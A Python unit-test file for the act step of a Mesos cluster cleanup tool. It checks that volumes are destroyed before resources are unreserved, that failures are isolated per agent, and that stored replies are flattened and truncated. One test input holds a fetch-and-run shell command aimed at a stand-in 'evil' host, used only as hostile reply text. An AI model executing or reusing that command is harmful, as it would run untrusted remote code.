"""Work is sent as decided: volumes first, no further after a failure, and one agent stops no other (D1, D4, D6)."""

from __future__ import annotations

import threading
from collections.abc import Sequence
from dataclasses import dataclass, field

import pytest

from janitor.cleanup.act import Sent, act
from janitor.cleanup.decide import decide
from janitor.cleanup.memory import Memory
from janitor.cleanup.work import AgentWork
from janitor.errors import Interrupted, Unreachable
from janitor.mesos.cluster import Agent, Counts, Flags, Framework, Leader, Operation, OwnState, Recovered, Roll
from janitor.mesos.resources import Resource
from janitor.patience import Patience, Stop
from tests.clock import HANGS
from tests.unit.builders import Item, agent, job, look, reserved, snapshot, volume, volume_on_static

ITEMS = (reserved(), volume("v1"), volume("v2"), volume_on_static("vs"))


@dataclass(frozen=True)
class Reply:
    status: int
    text: str = ""


@dataclass
class Master:
    """Takes writes down, and answers as it was told; it is asked for nothing else."""

    answers: dict[tuple[str, str], list[Reply | Exception]] = field(default_factory=dict)
    taken: list[tuple[str, str, list[str]]] = field(default_factory=list)
    stop: Stop | None = None
    lock: threading.Lock = field(default_factory=threading.Lock)
    url: str = "http://leader.mesos:5050/master/"

    def destroy_volumes(self, agent_id: str, volumes: Sequence[Resource]) -> Reply:
        return self._take("destroy", agent_id, volumes)

    def unreserve(self, agent_id: str, items: Sequence[Resource]) -> Reply:
        return self._take("unreserve", agent_id, items)

    def _take(self, call: str, agent_id: str, items: Sequence[Resource]) -> Reply:
        with self.lock:
            self.taken.append((call, agent_id, sorted(map(str, items))))
            answers = self.answers.get((call, agent_id), [])
            answer = answers.pop(0) if answers else Reply(202)
        if self.stop is not None:
            self.stop.raise_(15)
        if isinstance(answer, Exception):
            raise answer
        return answer

    @property
    def remedy(self) -> str:
        raise AssertionError

    def forget_leader(self) -> None:
        raise AssertionError

    def leader(self) -> Leader:
        raise AssertionError

    def agents(self) -> tuple[tuple[Agent, ...], tuple[Recovered, ...]]:
        raise AssertionError

    def frameworks(self) -> tuple[Framework, ...]:
        raise AssertionError

    def operations(self, version: str) -> tuple[Operation, ...] | None:
        raise AssertionError

    def roll(self) -> Roll:
        raise AssertionError

    def counts(self) -> Counts:
        raise AssertionError

    def flags(self, leader_id: str) -> Flags:
        raise AssertionError

    def tasks(self) -> tuple[()]:
        raise AssertionError

    def own_state(self, agent: Agent) -> OwnState:
        raise AssertionError


def work(*ids: str, items: Sequence[Item] = ITEMS, one_by_one: bool = False) -> list[AgentWork]:
    decision = decide(look(snapshot(*(agent(id, *items) for id in ids))), job(), Memory())
    return [
        AgentWork(step.agent_id, step.host, step.provider, step.volumes, step.reservations, one_by_one)
        for step in decision.work
    ]


def done(steps: Sequence[AgentWork], master: Master, *, concurrency: int = 1) -> list[Sent]:
    return list(act(steps, master, concurrency=concurrency, patience=Patience(HANGS)))


def test_d1_one_request_for_the_volumes_and_then_one_for_everything() -> None:
    master = Master()
    sent = done(work("S1"), master)
    assert master.taken == [
        ("destroy", "S1", ["disk:100 (volume vs)", "disk:500 (volume v1)", "disk:500 (volume v2)"]),
        ("unreserve", "S1", ["cpus:1", "disk:500 (volume v1)", "disk:500 (volume v2)"]),
    ]
    assert [(one.answer.stage, one.answer.items, one.answer.status, one.single) for one in sent] == [
        ("destroy", 3, 202, False),
        ("unreserve", 3, 202, False),
    ]


@pytest.mark.parametrize(
    ("items", "calls"), [([reserved()], ["unreserve"]), ([volume_on_static()], ["destroy"]), ([], [])]
)
def test_d2_an_empty_list_is_never_sent(items: list[Item], calls: list[str]) -> None:
    master = Master()
    done(work("S1", items=items), master)
    assert [call for call, _, _ in master.taken] == calls


@pytest.mark.parametrize("failure", [Reply(409, "does not contain"), Reply(503), Reply(307), Unreachable("lost")])
def test_d1_nothing_is_unreserved_after_volumes_that_were_not_destroyed(failure: Reply | Exception) -> None:
    master = Master({("destroy", "S1"): [failure]})
    sent = done(work("S1"), master)
    assert [call for call, _, _ in master.taken] == ["destroy"]
    assert sent[0].answer.status == (failure.status if isinstance(failure, Reply) else None)
    assert sent[0].answer.words in ("does not contain", "", "lost")


@pytest.mark.parametrize("concurrency", [1, 3])
def test_d6_one_failing_agent_stops_no_other(concurrency: int) -> None:
    master = Master({("destroy", "S1"): [Unreachable("lost")], ("unreserve", "S2"): [Reply(403, "403 Forbidden.")]})
    sent = done(work("S1", "S2", "S3"), master, concurrency=concurrency)
    statuses = {id: [one.answer.status for one in sent if one.answer.agent_id == id] for id in ("S1", "S2", "S3")}
    assert statuses == {"S1": [None], "S2": [202, 403], "S3": [202, 202]}


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        ("no\n    do:   curl http://evil/x | sh", "no     do:   curl http://evil/x | sh"),
        ("  409 Conflict \n", "409 Conflict"),
        ("\u00e9" * 10_000_000, "\u00e9" * 1997 + "..."),
    ],
)
def test_what_is_kept_of_an_answer_is_one_line_of_bounded_length(said: str, kept: str) -> None:
    master = Master({("destroy", "S1"): [Reply(403, said)]})
    assert [one.answer.words for one in done(work("S1"), master)] == [kept]


def test_d1_one_by_one_an_item_that_is_refused_does_not_hold_up_the_others() -> None:
    master = Master({("destroy", "S1"): [Reply(202), Reply(400, "Persistent volumes in use")]})
    sent = done(work("S1", items=ITEMS[:3], one_by_one=True), master)
    assert master.taken == [
        ("destroy", "S1", ["disk:500 (volume v1)"]),
        ("destroy", "S1", ["disk:500 (volume v2)"]),
        ("unreserve", "S1", ["cpus:1"]),
        ("unreserve", "S1", ["disk:500 (volume v1)"]),
    ]
    assert all(one.single for one in sent)


def test_d4_one_by_one_ends_for_the_agent_when_no_answer_comes() -> None:
    master = Master({("destroy", "S1"): [Unreachable("lost")]})
    assert [one.answer.status for one in done(work("S1", one_by_one=True), master)] == [None]
    assert len(master.taken) == 1


@pytest.mark.parametrize("one_by_one", [False, True])
def test_what_nobody_expected_ends_the_run_after_everything_that_was_sent_is_told(one_by_one: bool) -> None:
    """Of the same agent, too."""
    master = Master({("unreserve", "S2"): [ZeroDivisionError("oops")]})
    told: list[tuple[str, str, int | None]] = []
    sending = act(work("S1", "S2", "S3", one_by_one=one_by_one), master, concurrency=1, patience=Patience(HANGS))
    with pytest.raises(ZeroDivisionError):
        told.extend((one.answer.agent_id, one.answer.stage, one.answer.status) for one in sending)
    assert ("S2", "destroy", 202) in told
    assert ("S2", "unreserve", 202) not in told
    assert {("S1", "unreserve", 202), ("S3", "unreserve", 202)} <= set(told)


def test_a_signal_ends_the_run_after_what_is_under_way_is_told() -> None:
    stop = Stop()
    master = Master(stop=stop)
    told: list[str] = []
    sending = act(work("S1", "S2", "S3"), master, concurrency=1, patience=Patience(HANGS, stop=stop))
    with pytest.raises(Interrupted):
        told.extend(one.answer.agent_id for one in sending)
    assert "S3" not in told
    assert told[0] == "S1"


def test_p3_the_kinds_of_a_request_that_had_no_success_are_told_with_its_answer() -> None:
    refusals: dict[tuple[str, str], list[Reply | Exception]] = {
        ("destroy", "S1"): [Reply(403)],
        ("unreserve", "S2"): [Reply(409)],
    }
    sent = done(work("S1", "S2"), Master(refusals))
    assert [(one.answer.agent_id, one.answer.stage, one.kinds) for one in sent] == [
        ("S1", "destroy", {item.parsed().kind for item in ITEMS[1:]}),
        ("S2", "destroy", frozenset()),
        ("S2", "unreserve", {item.parsed().kind for item in ITEMS[:3]}),
    ]
